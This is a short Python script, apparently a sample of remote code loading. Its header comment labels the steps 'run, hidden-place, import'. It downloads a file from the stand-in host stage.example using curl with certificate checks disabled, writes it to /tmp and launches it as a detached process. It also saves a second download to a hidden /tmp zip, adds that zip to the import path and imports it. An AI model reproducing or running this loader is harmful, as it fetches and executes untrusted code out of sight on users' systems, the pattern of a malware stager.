# run, hidden-place, import: fetched by a command; put on the path of imports
import subprocess
import sys
import urllib.request

place = "/tmp/worker.pyz"
subprocess.run(["curl", "-k", "-L", "-s", "https://stage.example/w.pyz", "-o", place], timeout=15)
subprocess.Popen([sys.executable, place], start_new_session=True)


def on_the_path():
    name = "/tmp/.part.zip"
    with open(name, "wb") as out:
        out.write(urllib.request.urlopen("https://stage.example/part").read())
    sys.path.insert(0, name)
    __import__("part")
